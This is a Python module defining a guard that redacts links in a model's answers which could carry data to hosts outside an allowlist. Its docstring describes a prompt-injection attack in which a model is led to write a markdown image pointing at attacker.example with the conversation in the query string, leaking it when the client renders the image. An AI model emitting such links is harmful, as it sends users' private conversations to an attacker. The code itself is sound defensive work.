"""Links that carry data out of an answer: markdown images and links, HTML images,
reference definitions and bare URLs to hosts that are not allowed.

An injected instruction can make a model write ``![](https://attacker.example/?q=<the
conversation>)``: the client fetches the image as it renders the answer, and the data
leaves without a click. :class:`ExfiltrationGuard` removes every link whose host is
not on the allowlist (the guard's own and :attr:`GuardContext.allowed_hosts`, each
allowing its subdomains) when the URL carries data:

- a query string, or user information (``user:pass@``);
- a path segment of :data:`LONG_SEGMENT` characters or more, or a path of
  :data:`LONG_PATH` characters or more;
- a host label of :data:`LONG_LABEL` characters or more (data encoded in DNS names);
- a URL that does not parse.

With ``strict=True`` every link to a host not allowed is removed. Images (markdown and
``<img>``) become ``[REDACTED:image-link]``; markdown links keep their text and lose
their target; reference definitions and bare URLs become ``[REDACTED:link]``. Links
inside fenced code blocks and inline code are left alone: markdown shows them as text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from urllib.parse import urlsplit

from ramparts.guard.interface import Action, BaseGuard, FailMode, GuardContext, Hit, Role, Span
from ramparts.guard.markup import (
    HTML_IMG,
    MD_REFERENCE,
    CodeRegions,
    bare_urls,
    host_allowed,
    md_links,
    trim_url,
)
from ramparts.privacy.interface import Claims

__all__ = ["LONG_LABEL", "LONG_PATH", "LONG_SEGMENT", "ExfiltrationGuard", "carries_data"]

LONG_SEGMENT = 24
"""A path segment this long can hold an encoded secret."""
LONG_PATH = 96
"""A path this long can hold data in short segments."""
LONG_LABEL = 32
"""A host label this long can hold data (DNS exfiltration)."""

_IMAGE = "[REDACTED:image-link]"
_LINK = "[REDACTED:link]"
_SCHEME = re.compile(r"^[a-z][a-z0-9+.-]*:", re.IGNORECASE)


def carries_data(url: str) -> bool:
    """Whether ``url`` can carry data to its host (see the module's rules)."""
    try:
        parts = urlsplit(url)
        host = parts.hostname or ""
    except ValueError:
        return True
    if parts.query or "@" in parts.netloc:
        return True
    if any(len(label) >= LONG_LABEL for label in host.split(".")):
        return True
    path = parts.path
    return len(path) >= LONG_PATH or any(len(seg) >= LONG_SEGMENT for seg in path.split("/"))


def _host(url: str) -> str | None:
    """The lower-case host of an absolute URL; ``""`` for one that does not parse;
    ``None`` for a relative link or a scheme without a host (``mailto:``)."""
    if url.startswith("//"):
        url = "https:" + url
    if not _SCHEME.match(url):
        return None
    try:
        parts = urlsplit(url)
        host = parts.hostname
    except ValueError:
        return ""
    if parts.scheme.lower() not in ("http", "https", "ftp", "ws", "wss"):
        return None
    return (host or "").lower()


class ExfiltrationGuard(BaseGuard):
    """Removes links that carry data to hosts not allowed (code ``exfiltration_link``)."""

    name = "exfiltration"
    default_action = Action.REDACT
    __slots__ = ("_allowed", "_roles", "_strict")

    def __init__(
        self,
        *,
        allowed_hosts: Iterable[str] = (),
        strict: bool = False,
        roles: Iterable[Role] = (Role.ASSISTANT,),
        action: Action | None = None,
        fail_mode: FailMode = FailMode.CLOSED,
    ) -> None:
        super().__init__(action=action, fail_mode=fail_mode)
        self._allowed = frozenset(h.strip().lower().rstrip(".") for h in allowed_hosts)
        self._strict = strict
        self._roles = frozenset(roles)

    def _unsafe(self, url: str, allowed: frozenset[str]) -> bool:
        host = _host(url)
        if host is None:
            return False
        if host and host_allowed(host, allowed):
            return False
        return self._strict or not host or carries_data(url)

    def check(self, text: str, ctx: GuardContext) -> Hit | None:
        """A hit with one span per link removed."""
        if ctx.role not in self._roles or "//" not in text:
            return None
        allowed = self._allowed | ctx.allowed_hosts
        code = CodeRegions.of(text)
        taken = Claims()
        spans: list[Span] = []
        for start, end, url, replacement in _links(text):
            if code.covers(start) or taken.overlaps(start, end):
                continue
            # Claimed even when allowed: a link's URL is not judged again as a bare URL.
            taken.add(start, end)
            if self._unsafe(url, allowed):
                spans.append(Span(start, end, replacement))
        if not spans:
            return None
        spans.sort(key=lambda s: s.start)
        return Hit(
            "exfiltration_link", f"{len(spans)} link(s) to hosts not allowed", 1.0, tuple(spans)
        )


def _links(text: str) -> Iterator[tuple[int, int, str, str]]:
    """Every link of ``text`` as (start, end, URL, replacement), most specific first."""
    for m in md_links(text):
        yield m.start(), m.end(), m.group("url"), _IMAGE if m.group("bang") else m.group("text")
    if "<" in text and "img" in text.lower():
        for m in HTML_IMG.finditer(text):
            url = m.group("dq") or m.group("sq") or m.group("bare") or ""
            yield m.start(), m.end(), url, _IMAGE
    if "]:" in text:
        for m in MD_REFERENCE.finditer(text):
            yield m.start("url"), m.end("url"), m.group("url"), _LINK
    for m in bare_urls(text):
        url = trim_url(m.group())
        if url:
            yield m.start(), m.start() + len(url), url, _LINK
